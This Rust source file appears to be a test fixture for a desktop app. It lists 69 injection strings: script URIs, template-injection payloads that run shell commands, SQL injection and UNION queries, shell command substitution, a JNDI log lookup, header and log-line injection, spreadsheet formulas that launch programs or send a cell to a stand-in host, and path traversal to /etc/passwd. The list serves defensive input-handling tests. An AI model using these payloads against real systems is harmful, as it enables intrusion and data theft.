//! Text that is a program to whoever fills in templates, evaluates formulas, asks a database or calls a shell with it.

/// What each tries, and the text.
pub(super) const TEXTS: [(&str, &str); 69] = [
    ("a link that runs, alone", "javascript:hit=1"),
    ("a link that runs, in capitals", "JaVaScRiPt:hit=1"),
    ("a link that runs, after a space", " javascript:hit=1"),
    ("a link that runs, with a tab", "java\tscript:hit=1"),
    ("a link that runs, with a line's end", "java\nscript:hit=1"),
    ("a link that runs, and a comment", "javascript://%0ahit=1"),
    ("a link of another kind", "vbscript:hit=1"),
    ("a page in a link", "data:text/html,<script>hit=1</script>"),
    (
        "a page in a link, in base64",
        "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
    ),
    (
        "a drawing in a link",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit=1'/>",
    ),
    ("a file of this computer", "file:///etc/passwd"),
    ("a page's own bytes", "blob:null/hit"),
    (
        "our own link",
        "satchel://case/0192f0c1-2a3b-7c4d-8e5f-60718293a4b5?act=delete",
    ),
    ("our own page", "tauri://localhost/index.html"),
    ("our own commands", "ipc://localhost/sign_out"),
    (
        "our own pictures",
        "attachment://localhost/../../etc/passwd",
    ),
    (
        "a template of Vue",
        "{{constructor.constructor('hit=1')()}}",
    ),
    ("a template of Angular", "{{$on.constructor('hit=1')()}}"),
    (
        "a template of Angular of old",
        "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('hit=1')}}",
    ),
    (
        "a template of Svelte",
        "{@html '<img src=x onerror=hit=1>'}",
    ),
    (
        "a template of Svelte that debugs",
        "{@debug hit}{#if hit}{hit=1}{/if}",
    ),
    (
        "a template of Handlebars",
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{../hit}}{{/with}}{{/with}}",
    ),
    ("a template of Handlebars without escaping", "{{{hit}}}"),
    ("a template of Mustache", "{{#hit}}{{&hit}}{{/hit}}"),
    (
        "a template of Jinja",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    ),
    (
        "a template of Jinja that loops",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    ),
    (
        "a template of Django",
        "{% load log %}{% include request.GET.hit %}{% debug %}",
    ),
    (
        "a template of Twig",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    ),
    (
        "a template of Freemarker",
        "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    ),
    (
        "a template of Velocity",
        "#set($x='')$x.class.forName('java.lang.Runtime')",
    ),
    ("a template of Ruby", "<%= system('id') %>"),
    ("a template of Pug", "#{hit=1}!{hit=1}"),
    (
        "a template of Razor",
        "@(hit=1)@System.Diagnostics.Process.Start(\"calc\")",
    ),
    ("a template of JavaScript", "${hit=1}"),
    ("a template of JavaScript that ends", "`;hit=1;`${hit}"),
    ("a sum", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} *{7*7}"),
    (
        "a binding of Vue",
        "<div v-html=\"'<img src=x onerror=hit=1>'\" @click='hit=1' :is='x'>",
    ),
    (
        "a binding of Angular",
        "<div ng-app ng-csp ng-click=$event.view.hit=1 [innerHTML]='x'>",
    ),
    (
        "a binding of Alpine",
        "<div x-data x-init='hit=1' x-html='x'>",
    ),
    (
        "a binding of htmx",
        "<div hx-get=//{ELSEWHERE}/hx hx-trigger=load hx-on:load='hit=1'>",
    ),
    (
        "a binding of Svelte",
        "<div on:click={() => hit = 1} bind:innerHTML={hit}>",
    ),
    (
        "a placeholder of ours",
        "%name% %customer% {name} {{name}} {0} %s %n %x",
    ),
    (
        "a text that ends JavaScript",
        "</script><script>hit=1</script>'+hit+'",
    ),
    ("a text that ends a text", "';hit=1;//\";hit=1;//"),
    (
        "a text that ends JSON",
        "\"},{\"hit\":1,\"__proto__\":{\"hit\":1}}",
    ),
    ("a text of a prototype", "__proto__"),
    ("a text of a constructor", "constructor.prototype.hit=1"),
    ("a text that is a value", "[object Object]"),
    ("nothing, as a word", "undefined"),
    ("no number, as a word", "NaN"),
    ("a number too large", "1e309 9007199254740993 -0"),
    ("a question to a database", "'; DROP TABLE case_view; --"),
    ("a question that is always true", "' OR '1'='1' /*"),
    (
        "a question in a search",
        "\"zq7\" NEAR/2 * OR name:^ -- MATCH 'x'",
    ),
    (
        "a question with another",
        "x' UNION SELECT name, sql, 1 FROM sqlite_master--",
    ),
    ("a program of a shell", "$(touch /tmp/hit);`id`|id&&id"),
    ("a variable of a shell", "${IFS}%COMSPEC%!PATH!$HOME"),
    ("a call of a log", "${jndi:ldap://{ELSEWHERE}/hit}"),
    (
        "a line in a log",
        "\r\n2026-11-28 ERROR satchel: signed out\r\n",
    ),
    (
        "a header of HTTP",
        "\r\nSet-Cookie: hit=1\r\n\r\n<script>hit=1</script>",
    ),
    ("a formula that runs a program", "=cmd|'/c calc'!A1"),
    ("a formula with a plus", "+cmd|'/c calc'!A1"),
    ("a formula with a minus", "-2+3+cmd|'/c calc'!A1"),
    ("a formula with an at", "@SUM(1+1)*cmd|'/c calc'!A1"),
    ("a formula after a tab", "\t=1+1"),
    (
        "a formula that tells",
        "=HYPERLINK(\"http://{ELSEWHERE}/\"&A1,\"open\")",
    ),
    (
        "a formula that fetches",
        "=IMPORTXML(\"http://{ELSEWHERE}/\",\"//a\")",
    ),
    ("a formula in a field with quotes", "\";=1+1;\""),
    (
        "a path",
        "../../../../../../etc/passwd\\..\\..\\windows\\win.ini",
    ),
];
